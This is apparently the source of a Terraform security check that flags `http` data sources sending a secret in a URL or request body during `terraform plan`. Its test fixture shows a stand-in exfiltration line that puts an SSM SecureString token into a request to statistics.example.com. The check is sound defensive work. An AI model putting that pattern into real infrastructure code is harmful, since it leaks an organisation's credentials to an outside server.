import { defineCheck, hcl } from '../../kit/index.ts';
import { secretIn } from './secret-source.ts';

/** Parts of a request that servers log and proxies see. A secret in a header is how programs sign in, and no mistake by itself. */
const PARTS = ['url', 'request_body'];

export default defineCheck({
  id: 'aws-ssm-avoid-leaks-via-http',
  since: '1.0.0',
  severity: 'CRITICAL',
  resource: 'data.http',

  title: 'Secrets should not be sent out by an HTTP data source',
  why: 'A `http` data source sends its request while Terraform plans. An address or a body that is made of a secret hands it to whoever runs the server, which is a known trick of hostile modules. Nobody has to apply anything for it to work.',
  harm: 'The secret leaves the organisation with the first `terraform plan`.',
  remedy: 'Remove the request, or the secret from it, and replace the secret.',
  links: [
    'https://registry.terraform.io/providers/hashicorp/http/latest/docs/data-sources/http',
    'https://sprocketfox.io/xssfox/2022/02/09/terraformsupply/',
  ],
  alsoKnownAs: {
    trivy: ['AVD-AWS-0134', 'AWS-0134'],
    checkov: ['CKV2_AWS_36'],
  },

  messages: {
    leak: '`{address}` sends `{secret}` to a server while Terraform plans',
    sensitive: '`{address}` sends a sensitive value to a server while Terraform plans',
  },

  examples: [
    {
      bad: hcl`
        resource "aws_ssm_parameter" "token" {
          name  = "token"
          type  = "SecureString"
          value = "set by hand"
        }

        data "http" "statistics" {
          url = "https://statistics.example.com/?token=\${aws_ssm_parameter.token.value}"
        }
      `,
      expect: 'leak',
    },
  ],
  good: [
    hcl`
      data "http" "address" {
        url = "https://checkip.amazonaws.com"
      }
    `,
  ],

  evaluate(request, report) {
    for (const part of PARTS) {
      const text = request.attribute(part);
      const secret = secretIn(text);
      if (secret !== undefined) report.fail({ message: 'leak', at: text, values: { secret } });
      else if (text.isSensitive) report.fail({ message: 'sensitive', at: text });
    }
  },
});
